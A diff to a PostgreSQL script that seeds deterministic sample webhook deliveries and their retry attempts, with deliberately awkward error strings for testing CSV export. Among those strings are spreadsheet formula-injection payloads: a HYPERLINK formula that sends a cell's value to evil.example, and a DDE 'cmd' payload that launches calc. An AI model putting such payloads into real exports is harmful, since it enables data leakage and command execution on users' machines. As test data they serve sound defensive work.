@@ -1,16 +1,15 @@
--- Sample deliveries number $2 to $3 of a project: a number always gives the same row, so filling
--- can stop anywhere and go on, or run twice. The endpoints must be there.
+-- Sample deliveries number $2 to $3 of a project, with their attempts: a number always gives the same
+-- rows, so filling can stop anywhere and go on, or run twice. The endpoints must be there.
 -- $1 text: tenant id of the project; $2, $3 bigint: first and last number, from 1
 --
 -- Times: 30 days from 2026-10-01, in passes of 1000, 2000, 4000, ... rows that each walk through
 -- all of it. So every sample covers the whole range, and rows lie on disk nearly in the order of
 -- time, as those of a real platform do. Days are ten times as busy as nights. Every tenth row has
 -- the time of the row before it: one event, two endpoints.
-insert into deliveries.outbound_messages (
-  message_id, project_id, event_type, endpoint_id, endpoint_url, status, attempt_count,
-  replay_count, response_status, response_latency_ms, last_error, idempotency_key, content_type,
-  size_bytes, payload_sha256, created_at, delivered_at, next_attempt_at, updated_at
-)
+--
+-- Attempts: as many as the delivery counts, 30 s apart. The last one has the outcome of the delivery,
+-- the others failed, and the last that failed has its last_error. The first one is manual where
+-- somebody had the delivery sent again.
 with endpoint as (
   select array_agg(endpoint_id order by created_at) as ids, array_agg(url order by created_at) as urls
   from deliveries.endpoints
@@ -58,81 +57,160 @@ delivery as materialized (
     end as attempts,
     (20 + r % 180 + case when r % 50 = 0 then r / 64 % 9000 else 0 end)::int as latency_ms
   from moment
+),
+message as materialized (
+  select
+    h, r,
+    -- The layout of a UUIDv7: milliseconds, then what would be random.
+    (
+      lpad(to_hex(floor(extract(epoch from created_at) * 1000)::bigint), 12, '0')
+      || '7' || substr(h, 1, 3) || '8' || substr(h, 4, 15)
+    )::uuid as message_id,
+    (array[
+      'order.created', 'order.updated', 'order.fulfilled', 'order.cancelled', 'invoice.paid',
+      'invoice.payment_failed', 'customer.created', 'customer.updated', 'payment.succeeded',
+      'payment.refunded', 'shipment.dispatched', 'shipment.delivered', 'user.signed_up'
+    ])[event % 13 + 1] as event_type,
+    ids[endpoint] as endpoint_id,
+    -- Two endpoints moved after ten days.
+    case
+      when endpoint <= 2 and created_at < '2026-10-11 00:00:00+00'
+        then replace(urls[endpoint], '/v2/', '/v1/')
+      else urls[endpoint]
+    end as endpoint_url,
+    status,
+    attempts as attempt_count,
+    case when r % 41 = 0 then 1 + (r / 64 % 3)::int else 0 end as replay_count,
+    case
+      when status = 'succeeded' then (array[200, 200, 200, 201, 202, 204])[r / 16 % 6 + 1]
+      when attempts = 0 or status = 'delivering' then null
+      else (array[500, 502, 503, 504, 429, 404, 410, null])[r / 16 % 8 + 1]
+    end as response_status,
+    case when attempts > 0 and status <> 'delivering' then latency_ms end as response_latency_ms,
+    -- What receivers answered, kept as it was: everything that CSV readers have trouble with.
+    case when attempts > 1 or status in ('failed_permanent', 'pending_retry') then (array[
+      'upstream connect error, reset before headers',
+      E'HTTP 502: <html>\r\n<head><title>502 Bad Gateway</title></head>\r\n</html>\r\n',
+      '{"error":"invalid_signature","hint":"see \"Webhooks\", part 2","row":' || n || '}',
+      E'Traceback (most recent call last):\n  File "app.py", line ' || n % 900
+        || E', in handle\nValueError: bad "id"',
+      'Zeitüberschreitung nach 30 s bei „Größe: 5 µm“; 接続がタイムアウトしました',
+      'service down 🔥🧯, retry later 👩🏽‍💻',
+      '=HYPERLINK("https://evil.example/?q="&A1,"open")',
+      '+49 30 901820 is not a URL',
+      '-2+3+cmd|'' /C calc''!A0',
+      '@SUM(1+9)*cmd',
+      E'\tstarts with a tab',
+      '  leading and trailing spaces  ',
+      '',
+      '"',
+      E'a\\nb: a backslash, not a line\\',
+      E'line one\nline two\n\nline four',
+      'NULL',
+      '＝1＋1 full-width',
+      'e' || U&'\0301' || ' combining, ' || U&'\200F' || 'עברית',
+      'connect ECONNREFUSED 10.1.' || n % 256 || '.7:443'
+    ])[r / 8 % 20 + 1] end as last_error,
+    case
+      when r % 10 < 3 then null
+      when r % 97 = 3 then ''
+      when r % 97 = 4 then ' key, "' || n || '" '
+      when r % 97 = 5 then '=' || n
+      else 'evt_' || substr(h, 7, 24)
+    end as idempotency_key,
+    case
+      when r / 4 % 100 < 80 then 'application/json'
+      when r / 4 % 100 < 92 then 'application/json; charset=utf-8'
+      when r / 4 % 100 < 95 then 'application/xml'
+      when r / 4 % 100 < 97 then 'multipart/mixed; boundary="a,b"'
+      when r / 4 % 100 < 98 then ''
+    end as content_type,
+    200 + r % 3000 + case when r % 1000 = 7 then 3000000000 else 0 end as size_bytes,
+    case when r % 59 > 0 then encode(sha256(h::bytea), 'hex') end as payload_sha256,
+    created_at,
+    case
+      when status = 'succeeded'
+        then created_at + interval '1 millisecond' * (latency_ms + 30000 * (attempts - 1))
+    end as delivered_at,
+    case
+      when status = 'pending_retry' then created_at + interval '1 minute' * 2 ^ attempts
+    end as next_attempt_at,
+    created_at + interval '1 millisecond' * (latency_ms + 30000 * greatest(attempts - 1, 0) + 3)
+      as updated_at
+  from delivery, endpoint
+),
+inserted as (
+  insert into deliveries.outbound_messages (
+    message_id, project_id, event_type, endpoint_id, endpoint_url, status, attempt_count,
+    replay_count, response_status, response_latency_ms, last_error, idempotency_key, content_type,
+    size_bytes, payload_sha256, created_at, delivered_at, next_attempt_at, updated_at
+  )
+  select
+    message_id, $1::text, event_type, endpoint_id, endpoint_url, status, attempt_count,
+    replay_count, response_status, response_latency_ms, last_error, idempotency_key, content_type,
+    size_bytes, payload_sha256, created_at, delivered_at, next_attempt_at, updated_at
+  from message
+  on conflict do nothing
+),
+attempt as (
+  select
+    message.*,
+    k,
+    created_at + interval '30 seconds' * (k - 1) as attempted_at,
+    case
+      when k = attempt_count then response_status
+      else (array[500, 502, 503, 504, 429, 404, 410, null])[(r / 16 + k) % 8 + 1]
+    end as code,
+    case
+      when k = attempt_count then response_latency_ms
+      else (20 + (r + k * 37) % 180)::int
+    end as latency_ms,
+    case
+      when k < attempt_count or status in ('failed_permanent', 'pending_retry') then 'failed'
+      else status
+    end as outcome
+  from message
+  -- No delivery has more. By a series of its own for each, the server would expect a thousand times
+  -- the rows and compile the statement: a second for each batch.
+  join generate_series(1, 8) as k on k <= attempt_count
+)
+insert into deliveries.outbound_attempts (
+  attempt_id, project_id, message_id, endpoint_id, endpoint_url, event_type, attempt_number,
+  trigger, status, response_status, response_latency_ms, error, response_body, attempted_at,
+  finished_at
 )
 select
-  -- The layout of a UUIDv7: milliseconds, then what would be random.
   (
-    lpad(to_hex(floor(extract(epoch from created_at) * 1000)::bigint), 12, '0')
-    || '7' || substr(h, 1, 3) || '8' || substr(h, 4, 15)
+    lpad(to_hex(floor(extract(epoch from attempted_at) * 1000)::bigint), 12, '0')
+    || '7' || lpad(to_hex(k), 3, '0') || 'a' || substr(h, 18, 15)
   )::uuid,
   $1::text,
-  (array[
-    'order.created', 'order.updated', 'order.fulfilled', 'order.cancelled', 'invoice.paid',
-    'invoice.payment_failed', 'customer.created', 'customer.updated', 'payment.succeeded',
-    'payment.refunded', 'shipment.dispatched', 'shipment.delivered', 'user.signed_up'
-  ])[event % 13 + 1],
-  ids[endpoint],
-  -- Two endpoints moved after ten days.
+  message_id,
+  endpoint_id,
+  endpoint_url,
+  event_type,
+  k,
+  case when k = 1 and replay_count > 0 then 'manual' else 'automatic' end,
+  outcome,
+  code,
+  latency_ms,
   case
-    when endpoint <= 2 and created_at < '2026-10-11 00:00:00+00'
-      then replace(urls[endpoint], '/v2/', '/v1/')
-    else urls[endpoint]
-  end,
-  status,
-  attempts,
-  case when r % 41 = 0 then 1 + (r / 64 % 3)::int else 0 end,
-  case
-    when status = 'succeeded' then (array[200, 200, 200, 201, 202, 204])[r / 16 % 6 + 1]
-    when attempts = 0 or status = 'delivering' then null
-    else (array[500, 502, 503, 504, 429, 404, 410, null])[r / 16 % 8 + 1]
-  end,
-  case when attempts > 0 and status <> 'delivering' then latency_ms end,
-  -- What receivers answered, kept as it was: everything that CSV readers have trouble with.
-  case when attempts > 1 or status in ('failed_permanent', 'pending_retry') then (array[
-    'upstream connect error, reset before headers',
-    E'HTTP 502: <html>\r\n<head><title>502 Bad Gateway</title></head>\r\n</html>\r\n',
-    '{"error":"invalid_signature","hint":"see \"Webhooks\", part 2","row":' || n || '}',
-    E'Traceback (most recent call last):\n  File "app.py", line ' || n % 900
-      || E', in handle\nValueError: bad "id"',
-    'Zeitüberschreitung nach 30 s bei „Größe: 5 µm“; 接続がタイムアウトしました',
-    'service down 🔥🧯, retry later 👩🏽‍💻',
-    '=HYPERLINK("https://evil.example/?q="&A1,"open")',
-    '+49 30 901820 is not a URL',
-    '-2+3+cmd|'' /C calc''!A0',
-    '@SUM(1+9)*cmd',
-    E'\tstarts with a tab',
-    '  leading and trailing spaces  ',
-    '',
-    '"',
-    E'a\\nb: a backslash, not a line\\',
-    E'line one\nline two\n\nline four',
-    'NULL',
-    '＝1＋1 full-width',
-    'e' || U&'\0301' || ' combining, ' || U&'\200F' || 'עברית',
-    'connect ECONNREFUSED 10.1.' || n % 256 || '.7:443'
-  ])[r / 8 % 20 + 1] end,
-  case
-    when r % 10 < 3 then null
-    when r % 97 = 3 then ''
-    when r % 97 = 4 then ' key, "' || n || '" '
-    when r % 97 = 5 then '=' || n
-    else 'evt_' || substr(h, 7, 24)
+    when outcome <> 'failed' then null
+    when k = attempt_count or (k = attempt_count - 1 and status = 'succeeded') then last_error
+    else coalesce('HTTP ' || code, 'no response within 30 s')
   end,
   case
-    when r / 4 % 100 < 80 then 'application/json'
-    when r / 4 % 100 < 92 then 'application/json; charset=utf-8'
-    when r / 4 % 100 < 95 then 'application/xml'
-    when r / 4 % 100 < 97 then 'multipart/mixed; boundary="a,b"'
-    when r / 4 % 100 < 98 then ''
+    when code is null or code = 204 then null
+    when code < 300 then (array['ok', '{"received":true}', '', null])[r / 2 % 4 + 1]
+    else (array[
+      E'<html>\r\n<body>Bad Gateway, try later</body>\r\n</html>\r\n',
+      '{"error":"invalid_signature","hint":"see \"Webhooks\", part 2"}',
+      '=HYPERLINK("https://evil.example/","open")',
+      'überlastet 🔥',
+      ''
+    ])[(r / 8 + k) % 5 + 1]
   end,
-  200 + r % 3000 + case when r % 1000 = 7 then 3000000000 else 0 end,
-  case when r % 59 > 0 then encode(sha256(h::bytea), 'hex') end,
-  created_at,
-  case
-    when status = 'succeeded'
-      then created_at + interval '1 millisecond' * (latency_ms + 30000 * (attempts - 1))
-  end,
-  case when status = 'pending_retry' then created_at + interval '1 minute' * 2 ^ attempts end,
-  created_at + interval '1 millisecond' * (latency_ms + 30000 * greatest(attempts - 1, 0) + 3)
-from delivery, endpoint
+  attempted_at,
+  attempted_at + interval '1 millisecond' * latency_ms
+from attempt
 on conflict do nothing
